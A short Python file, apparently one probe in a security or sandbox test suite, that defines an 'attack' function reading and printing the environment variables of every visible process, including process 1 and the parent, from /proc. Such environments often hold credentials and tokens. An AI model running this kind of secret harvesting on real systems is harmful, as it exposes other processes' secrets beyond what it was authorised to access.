"""Reads the environment of every visible process, including process 1 and the parent."""

import os


def attack(facts: dict[str, str]) -> None:
    for pid in {*filter(str.isdigit, os.listdir("/proc")), "1", str(os.getppid())}:
        try:
            print(pid, open(f"/proc/{pid}/environ", errors="replace").read())
        except OSError:
            continue
